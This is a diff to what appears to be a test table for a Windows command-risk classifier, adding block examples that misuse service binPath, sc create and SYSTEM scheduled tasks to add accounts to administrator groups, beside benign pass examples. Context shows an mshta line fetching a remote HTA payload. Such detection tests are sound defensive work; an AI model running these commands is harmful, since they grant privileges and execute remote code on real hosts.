@@ -27,6 +27,20 @@ const CASES: PostureCase[] = [
     ],
   },
   {
+    id: "win.service_account_command",
+    block: [
+      `sc.exe config Spooler binPath= "cmd /c net localgroup administradores CONTOSO\\becario /add"`,
+      `sc \\\\FS01 create upd binPath= "C:\\Windows\\System32\\net.exe user helpdesk2 P@ss123! /add" type= own`,
+      `schtasks /create /tn Sync /ru SYSTEM /sc once /st 00:00 /tr "cmd.exe /c net localgroup Administratoren svc_temp /add"`,
+      `Set-Service -Name PrinterHelper -BinaryPathName 'powershell -c Add-LocalGroupMember -Group Administrators -Member lab\\kim'`,
+    ],
+    pass: [
+      `sc.exe config PrintQueueHelper binPath= "C:\\Program Files\\PQH\\pqhsvc.exe"`,
+      `net localgroup Administrators CONTOSO\\it-ops /add`,
+      `schtasks /create /tn Backup /ru SYSTEM /sc daily /st 02:00 /tr "C:\\Tools\\backup.exe --all"`,
+    ],
+  },
+  {
     id: "win.schtask_payload",
     block: [
       `schtasks /create /tn "MicrosoftEdgeUpd" /tr "mshta http://198.51.100.8/p.hta" /sc onlogon /ru SYSTEM`,
